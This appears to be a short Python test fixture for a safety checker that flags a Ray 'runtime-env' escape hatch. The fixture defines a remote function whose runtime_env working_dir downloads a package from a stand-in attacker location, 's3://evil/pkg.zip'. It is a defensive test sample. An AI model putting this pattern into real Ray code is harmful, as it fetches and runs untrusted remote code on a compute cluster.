# expect: safety.runtime-env
# class: 8-escape-hatches
import ray
ds = ray.data.read_csv(inputs["sales"])
@ray.remote(runtime_env={"working_dir": "s3://evil/pkg.zip"})
def f():
    return 1
result = ray.get(f.remote())
